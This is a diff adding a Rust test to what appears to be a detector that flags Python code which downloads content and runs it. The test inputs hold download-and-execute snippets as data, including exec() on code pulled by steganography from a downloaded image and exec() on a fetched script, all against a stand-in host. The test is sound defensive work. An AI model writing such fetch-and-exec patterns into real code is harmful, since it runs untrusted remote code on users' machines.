@@ -110,6 +110,20 @@ fn parsed_json_and_hashed_downloads_are_not_code() {
 }
 
 #[test]
+fn what_a_library_reads_back_from_a_written_download_is_the_download() {
+    // Hidden text pulled out of a downloaded image, the path in a variable or written out twice.
+    let by_name = py("import requests\nfrom stego import lsb\np = tmp + '/pic.png'\nr = requests.get('https://x.example.invalid/pic.png')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nexec(lsb.reveal(p))\n");
+    assert_eq!(by_name.len(), 1, "{by_name:?}");
+    let written_twice = py("import os, requests\nfrom stego import lsb\nr = requests.get('https://x.example.invalid/pic.png')\nwith open(f'{os.getenv(\"TEMP\")}/pic.png', 'wb') as f:\n    f.write(r.content)\nexec(lsb.reveal(f'{os.getenv(\"TEMP\")}/pic.png'))\n");
+    assert_eq!(written_twice.len(), 1, "{written_twice:?}");
+    let read_back = py("import requests, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/s.py', dest)\nexec(open(dest).read())\n");
+    assert_eq!(read_back.len(), 1, "{read_back:?}");
+    // Read back as an image or a document, and never run: data.
+    let shown = py("import requests\nfrom PIL import Image\nr = requests.get('https://x.example.invalid/pic.png')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nthumb = Image.open(p)\nthumb.show()\nprint(open(p, 'rb').read()[:4])\nexec(other_code)\n");
+    assert!(shown.is_empty(), "{shown:?}");
+}
+
+#[test]
 fn a_shell_quoted_download_is_an_argument_not_code() {
     let quoted = py("import requests, shlex, subprocess\ntext = requests.get('https://x.example.invalid/' + name).text\nsubprocess.run(['bash', '-c', cmd.replace('{md}', shlex.quote(text))])\n");
     assert!(quoted.is_empty(), "{quoted:?}");
